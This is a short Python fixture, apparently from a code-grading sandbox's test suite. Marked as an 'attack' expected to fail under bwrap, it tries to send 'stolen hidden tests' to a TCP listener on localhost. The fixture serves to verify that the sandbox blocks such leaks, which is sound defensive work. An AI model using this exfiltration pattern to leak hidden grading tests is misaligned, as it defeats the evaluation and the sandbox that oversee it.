# attack: send the hidden tests (or anything) to a TCP listener on 127.0.0.1 (issue 3)
# base: wrong
# tests: test_runs_in_deadline_order hidden:test_negative_delay_is_rejected_and_args_are_passed
# expect-fail: *
# needs: bwrap
import socket as _socket

for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        with _socket.create_connection((_host, int("@PORT@")), timeout=1) as _conn:
            _conn.sendall(b"stolen hidden tests @NONCE@")
    except OSError as _exc:
        print(f"no network to {_host}: {_exc}")
